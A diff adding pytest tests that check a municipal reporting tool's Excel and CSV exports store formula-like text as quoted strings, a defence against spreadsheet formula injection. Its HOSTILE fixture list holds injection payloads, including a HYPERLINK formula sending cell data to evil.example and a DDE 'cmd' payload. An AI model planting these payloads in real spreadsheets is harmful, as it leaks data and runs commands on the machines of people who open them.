@@ -189,3 +189,46 @@ def test_provider_pdf_tables_fit_the_page(region: None, db: None) -> None:
     data = documents.provider_data(OWN, YEAR, AS_OF)
     headings = assert_tables_fit(documents.provider_html(widest_data(data)), "scorecard at its widest")
     assert "Bandbreedte hoog (90%)" in headings["prognose"] and "Betaald" in headings["grootboek"]
+
+
+HOSTILE = ["=HYPERLINK(\"http://evil.example/\"&A1,\"klik\")", "+1+1", "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0"]
+
+
+def test_no_text_becomes_a_formula_in_a_workbook() -> None:
+    """Issue 12, failure 3: names that start like a formula are written as text (openpyxl
+    would store them as formulas), with the quote prefix, in every workbook."""
+    import datetime as dt
+    import zipfile
+
+    rows = [
+        {"municipality_name": text, "segment": text, "segment_name": text, "label": text, "position": text,
+         "kind": "int", "value": 1, "warning": True, "driver_lines": [{"label": text, "amount": 100}]}
+        for text in HOSTILE
+    ]  # fmt: skip
+    data = documents.ReportData(
+        title="=1+1", region="=2+2", year=2025, as_of=dt.date(2025, 6, 30), computed_at=None,
+        forecast=rows, indicators=rows, scorecards=[], ledger=rows, declarations=rows, provider={"agb": "=3+3"},
+    )  # fmt: skip
+    books = {
+        "council": documents.council_xlsx(data),
+        "provider": documents.provider_xlsx(data),
+        "gmsd": documents.gmsd_xlsx([{"gemeente": t, "municipality": t} for t in HOSTILE], 2025, data.as_of, "=r"),
+    }
+    for name, content in books.items():
+        with zipfile.ZipFile(io.BytesIO(content)) as archive:
+            sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
+            assert sheets and not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets), name
+        wb = load_workbook(io.BytesIO(content))
+        texts = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
+        hostile = [c for c in texts if c.value.startswith(("=", "+", "-", "@"))]
+        assert hostile, name
+        assert all(c.data_type == "s" and c.quotePrefix for c in hostile), name
+
+
+def test_the_gmsd_csv_quotes_text_that_starts_like_a_formula() -> None:
+    from regie.reports import gmsd
+
+    key = next(iter(gmsd.COLUMNS))
+    text = documents.gmsd_csv([{key: t} for t in HOSTILE]).decode("utf-8-sig")
+    for line in text.splitlines()[1:]:
+        assert line.split(";")[0].strip('"').startswith("'")
